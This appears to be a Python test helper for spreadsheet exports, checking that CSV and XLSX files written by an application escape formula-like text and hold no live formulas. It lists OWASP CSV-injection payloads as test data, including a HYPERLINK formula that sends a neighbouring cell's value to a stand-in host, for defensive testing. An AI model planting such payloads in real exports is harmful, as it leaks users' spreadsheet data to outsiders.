"""Hostile texts for the exports, and the check that a folder of written files carries no formula."""

from __future__ import annotations

import csv
import re
import zipfile
from pathlib import Path

import openpyxl

# OWASP "CSV Injection" payloads, and a plain Chinese name that must stay untouched
PAYLOADS = ['=HYPERLINK("http://x.example/?"&B2,"点击查看")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]
CHINESE = "王小明"
NAMES = [*PAYLOADS, CHINESE]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")

_FORMULA = re.compile(rb"<(?:\w+:)?f[\s>/]")


def csv_value(text: str) -> str:
    """What a hostile text must read as in a CSV: a leading quote before a formula trigger."""
    return "'" + text if text.startswith(TRIGGERS) else text


def xlsx_value(text: str) -> str:
    return text.replace("\r", "\n")     # XML reads a bare CR in a text node as a line feed


def _number(cell: str) -> bool:
    try:
        float(cell)
        return True
    except ValueError:
        return False


def read_csv(path: Path) -> list[list[str]]:
    with open(path, encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh))


def formula_cells(path: Path) -> int:
    """``<f>`` elements in every sheet of an XLSX file (its raw XML, not what a reader makes of it)."""
    with zipfile.ZipFile(path) as z:
        return sum(len(_FORMULA.findall(z.read(n))) for n in z.namelist()
                   if n.startswith("xl/worksheets/") and n.endswith(".xml"))


def assert_no_formula_anywhere(root: Path) -> dict[str, int]:
    """Every CSV and XLSX under ``root``: no CSV cell starts like a formula unless it is a number;
    no XLSX sheet holds a formula, and a text that starts like one is a text cell with the quote
    prefix. Returns how many files of each kind were checked."""
    seen = {"csv": 0, "xlsx": 0}
    for path in sorted(root.rglob("*.csv")):
        assert path.read_bytes().startswith(b"\xef\xbb\xbf"), f"{path}: no BOM"
        for i, row in enumerate(read_csv(path), start=1):
            for cell in row:
                assert not cell.startswith(TRIGGERS) or _number(cell), f"{path} row {i}: formula-like cell {cell!r}"
        seen["csv"] += 1
    for path in sorted(root.rglob("*.xlsx")):
        assert formula_cells(path) == 0, f"{path}: formula cells"
        for sheet in openpyxl.load_workbook(path).worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    if isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@", "\t", "\n")):
                        assert cell.data_type == "s" and cell.quotePrefix, f"{path} {cell.coordinate}"
        seen["xlsx"] += 1
    return seen
